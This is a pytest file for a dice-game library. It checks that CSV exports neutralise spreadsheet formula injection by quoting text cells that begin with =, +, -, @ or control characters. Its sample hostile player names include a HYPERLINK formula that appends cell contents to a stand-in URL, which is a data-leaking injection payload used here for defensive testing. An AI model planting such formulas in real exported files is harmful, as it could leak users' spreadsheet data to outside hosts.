"""The review's CSV carries no formulas (issue 33 item 9): a text cell starting with =, +, -, @,
tab or carriage return is written after a single quote (OWASP's CSV injection advice), so a
spreadsheet shows it as text; numbers are written as numbers ("-0.5" stays a number).
Read back with Python's csv module, the names round-trip once the quote is taken off."""
from __future__ import annotations

import csv
import io

import pytest

import dicelab
from dicelab.coach import render
from dicelab.games import Seat
from dicelab.players import make_player

HOSTILE = ['=HYPERLINK("http://x"&A2,"Open")', "@SUM(A1:A9)", "+1", "-1", "\t=1"]
NUMBERS = {"index", "turn", "choice_value", "best_value", "lost", "win_choice_value",
           "win_best_value", "win_lost", "luck_before", "luck"}


def unguard(cell: str) -> str:
    return cell[1:] if cell[:1] == "'" and cell[1:].startswith(render.FORMULA_START) else cell


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def hostile_review(variant, computers, names, **settings):
    seats = [Seat(n, make_player(variant, c), strategy=c) for n, c in zip(names, computers)]
    g = dicelab.new_game(variant, seats, seed=3, **settings)
    g.play_computers()
    return g, dicelab.review(g)


@pytest.mark.parametrize("variant,computers,settings", [
    ("bones", ["chicken", "gambler", "aggressive"], {"target": 2000}),
    ("under40", ["cautious", "threshold"], {}),
    ("yahtzee", ["greedy", "skill"], {"preset": "no_bonus"}),
])
def test_hostile_names_are_inert_and_round_trip(variant, computers, settings,
                                                 no_win_table):
    names = HOSTILE[:len(computers)] if variant != "under40" else HOSTILE[3:]
    g, r = hostile_review(variant, computers, names, **settings)
    rows = list(csv.DictReader(io.StringIO(r.to_csv())))
    assert len(rows) == len(r.entries) > 0
    guarded = 0
    for row in rows:
        for col, cell in row.items():
            if cell.startswith(render.FORMULA_START):
                # only a number may start so, and only in a column of numbers
                assert col in NUMBERS and is_number(cell), (col, cell)
            guarded += cell.startswith("'")
    assert guarded >= len(rows)  # every row names its player
    # the stored names (the game strips the tab) come back once the guard is off
    assert {unguard(row["player"]) for row in rows} <= set(g.names)
    assert {unguard(row["player"]) for row in rows} == {e.player for e in r.entries}
    assert [unguard(row["why"]) for row in rows] == [e.why for e in r.entries]


def test_text_cells_are_guarded_numbers_are_not():
    assert [render.guard(c) for c in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1")] == \
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert render.guard("-0.5") == "'-0.5"  # text: a name "-0.5" is guarded
    assert render.guard(-0.5) == -0.5       # a number: written as one
    assert [render.guard(c) for c in ("Ann", "", None, True, 0.0, "a=b", "'=x")] == \
        ["Ann", "", None, True, 0.0, "a=b", "'=x"]


def test_a_negative_number_is_written_as_a_number(no_win_table):
    """A value column holding a negative number writes it plainly: a spreadsheet reads it as
    the number it is, not as a formula."""
    g, r = hostile_review("bones", ["chicken", "gambler"], ["Ann", "Bob"], target=2000)
    table = r.table()
    table.at[0, "choice_value"] = -0.5  # the table is what the CSV reads
    rows = list(csv.DictReader(io.StringIO(r.to_csv())))
    assert rows[0]["choice_value"] == "-0.5" and rows[0]["player"] in ("Ann", "Bob")
